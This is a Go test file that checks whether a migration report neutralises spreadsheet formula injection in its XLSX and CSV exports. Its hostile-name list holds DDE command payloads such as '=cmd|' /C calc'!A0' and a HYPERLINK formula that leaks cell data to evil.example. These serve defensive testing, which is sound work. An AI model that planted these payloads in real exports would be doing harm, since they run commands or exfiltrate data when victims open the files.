package report

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// hostileNames are display names an attacker who can name a principal
// could choose: formulas, DDE, and the signs and control characters that
// start one — also behind leading white space, in their fullwidth forms,
// and a bare DDE pipe (OWASP, "CSV Injection").
var hostileNames = []string{
	`=cmd|' /C calc'!A0`,
	`=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
	`=1+1`,
	`@SUM(1+1)`,
	`+1`,
	`-1`,
	"\t=1",
	"\r=1",
	" =1+1",
	"   +SUM(1)",
	"\n=1",
	"\u00a0=1",      // no-break space
	"\u3000@SUM(1)", // ideographic space
	"＝1+1",          // fullwidth equals
	"＋1",
	"－1",
	"＠SUM(1)",
	`|cmd /C calc`,
	` |cmd /C calc`,
	`｜cmd`,
	"\t|x",
}

// harmlessNames are left as they are.
var harmlessNames = []string{"Alice Adams", "Zoë-Ann (it's fine)", "Sales | EMEA", "1-2", " Bob", "a=b"}

// TestFormulaInjection writes hostile display names through the migration
// report and checks they stay inert text in both formats: in the XLSX a
// string cell with no formula and the quote-prefix style, in the CSV the
// value behind a leading apostrophe. Harmless names are left alone.
func TestFormulaInjection(t *testing.T) {
	var items []testItem
	hostile := map[string]bool{}
	for _, name := range hostileNames {
		hostile[name] = true
	}
	for i, name := range append(append([]string{}, hostileNames...), harmlessNames...) {
		ti := demoItems[0]
		ti.principal = fmt.Sprintf("a11ce000-0000-4000-8000-%012x", 0x100+i)
		ti.name = name
		items = append(items, ti)
	}
	p := testPlan(items)
	in := MigrationInput{Plan: p, PlanFile: "plan.json", ToolVersion: "test", MadeAt: madeAt}
	want := map[string]string{} // key -> display name
	for _, it := range p.Items {
		want[it.Key] = it.Principal.DisplayName
	}

	var x bytes.Buffer
	if err := WriteXLSX(&x, Migration(in)); err != nil {
		t.Fatal(err)
	}
	raw := x.Bytes()
	f, err := excelize.OpenReader(bytes.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("Assignments")
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(p.Items)+1 {
		t.Fatalf("%d rows, want %d", len(rows), len(p.Items)+1)
	}
	checkCell := func(cell, wantText string) {
		t.Helper()
		got, _ := f.GetCellValue("Assignments", cell)
		typ, _ := f.GetCellType("Assignments", cell)
		formula, _ := f.GetCellFormula("Assignments", cell)
		style, _ := f.GetCellStyle("Assignments", cell)
		quoted := f.Styles.CellXfs.Xf[style].QuotePrefix != nil && *f.Styles.CellXfs.Xf[style].QuotePrefix
		if got != wantText || formula != "" || (typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) {
			t.Errorf("%s: value %q type %v formula %q; want the text %q, a string cell, no formula", cell, got, typ, formula, wantText)
		}
		if quoted != hostile[wantText] {
			t.Errorf("%s (%q): quotePrefix %v, want %v", cell, wantText, quoted, hostile[wantText])
		}
	}
	for r := 2; r <= len(rows); r++ {
		key := rows[r-1][len(rows[r-1])-1] // Key is the last column
		name, ok := want[key]
		if !ok {
			t.Fatalf("row %d: key %q is not the plan's", r, key)
		}
		cell, _ := excelize.CoordinatesToCellName(1, r)
		checkCell(cell, name)
	}
	if v, _ := f.GetCellValue("Rejected", "C3"); !strings.HasPrefix(v, "=HYPERLINK") {
		t.Errorf("Rejected!C3 is %q", v)
	}
	if formula, _ := f.GetCellFormula("Rejected", "C3"); formula != "" {
		t.Errorf("Rejected!C3 holds a formula: %q", formula)
	}
	// No sheet holds a formula at all.
	zr, err := zip.NewReader(bytes.NewReader(raw), int64(len(raw)))
	if err != nil {
		t.Fatal(err)
	}
	for _, zf := range zr.File {
		if !strings.HasPrefix(zf.Name, "xl/worksheets/") || !strings.HasSuffix(zf.Name, ".xml") {
			continue
		}
		rc, _ := zf.Open()
		b, _ := io.ReadAll(rc)
		rc.Close()
		if bytes.Contains(b, []byte("<f>")) || bytes.Contains(b, []byte("<f ")) {
			t.Errorf("%s holds a formula element", zf.Name)
		}
	}

	var c bytes.Buffer
	if err := WriteCSV(&c, Assignments(in), true); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(c.Bytes(), []byte("\ufeffPrincipal,")) {
		t.Errorf("CSV does not start with a BOM and the header: %q", c.String()[:10])
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(c.String(), "\ufeff")))
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(p.Items)+1 {
		t.Fatalf("CSV has %d records, want %d", len(recs), len(p.Items)+1)
	}
	// A line break in a field is written CRLF, and read back LF.
	lineBreaks := strings.NewReplacer("\r\n", "\n", "\r", "\n")
	for _, rec := range recs[1:] {
		key := rec[len(rec)-1]
		name := want[key]
		wantField := lineBreaks.Replace(name)
		if hostile[name] {
			wantField = "'" + wantField
		}
		if rec[0] != wantField {
			t.Errorf("CSV principal %q, want %q", rec[0], wantField)
		}
		for i, field := range rec {
			if risky(field) {
				t.Errorf("CSV field %d of %s begins with a formula sign: %q", i, key, field)
			}
		}
	}
}

func TestRisky(t *testing.T) {
	for s, want := range map[string]bool{
		"=1": true, "+1": true, "-1": true, "@x": true, "\t=1": true, "\r=1": true, "|x": true,
		" =1": true, "\n=1": true, " \t -1": true, "\u00a0@x": true, "＝1": true, "＋1": true, "－1": true, "＠x": true, "｜x": true,
		"": false, "a=1": false, "'=1": false, "Ünïcode": false, "1-2": false, " ": false, " a": false, "a|b": false,
	} {
		if risky(s) != want {
			t.Errorf("risky(%q) = %v, want %v", s, !want, want)
		}
	}
}
